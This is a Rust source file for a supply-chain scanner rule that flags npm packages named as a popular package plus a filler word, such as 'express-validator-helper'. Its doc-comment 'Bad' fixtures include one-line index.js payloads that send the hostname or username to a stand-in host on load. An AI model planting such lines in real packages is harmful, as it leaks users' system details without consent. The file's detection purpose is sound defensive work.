//! # The name is a popular name with a word beside it
//!
//! The name is a popular name joined with a word that says nothing, as `-helper` or `node-`, and the release names
//! no repository of its own.
//!
//! ## Why it matters
//!
//! Such names look like a part of what they lean on. The Contagious Interview waves used hundreds: `tailwind-`,
//! `vite-`, `logger` and `validator` with everything.
//!
//! ## Known benign uses
//!
//! Most plugins are named so, and link the repository that they are built from. Of 2 547 releases in the corpora
//! two have such a name, both with a repository. The name alone accuses nobody: a second finding must tell the same
//! story.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 2
//! {
//!   "name": "express-validator-helper",
//!   "version": "1.0.3",
//!   "main": "index.js"
//! }
//! == index.js
//! const os = require("os");
//! require("https").get("https://stats.invalid/?h=" + os.hostname());
//! ```
//!
//! ```package
//! == package.json //~ 2
//! {
//!   "name": "dotenv-loader", "version": "0.0.2", "main": "index.js",
//!   "repository": "motdotla/dotenv"
//! }
//! == index.js
//! require("http").get({ host: "stats.invalid", path: "/" + require("os").userInfo().username });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "dotenv-utils", "version": "1.2.0", "main": "index.js", "repository": "acme/dotenv-utils"}
//! == index.js
//! exports.pick = (values, names) => Object.fromEntries(names.map((name) => [name, values[name]]));
//! ```
//!
//! ```package
//! == package.json
//! {"name": "express-session", "version": "1.18.0", "main": "index.js"}
//! == index.js
//! exports.session = () => (request, response, next) => next();
//! ```
//!
//! ## References
//!
//! - Socket: Contagious Interview, 338 packages (October 2025)
//! - the corpora of `eval/`, measured

use stockade_facts::lookalike::borrowed::{self, Combined};

use crate::prelude::*;

/// The name is a popular name with a word beside it.
pub struct PopularNameWithWord;

impl Rule for PopularNameWithWord {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "popular-name-with-word",
            title: "The name is a popular name with a word beside it",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1036.005",
            covers: &["combosquat", "slopsquat"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(name) = facts.published_name() else { return };
        let Some(Combined { target, word }) = borrowed::combined(name) else { return };
        if facts.repository_name().is_some_and(|repository| repository != target) {
            return;
        }
        let does = format!("is called `{}`, which is `{target}` with `{word}` beside it", excerpt(name, 80));
        let mut steps: Vec<(Locus, &str)> =
            facts.unasked_files().into_iter().map(|file| (file, "runs by itself")).collect();
        steps.push((facts.in_manifest(&["name"]), &does));
        found.path(Trigger::Install, &steps);
    }
}
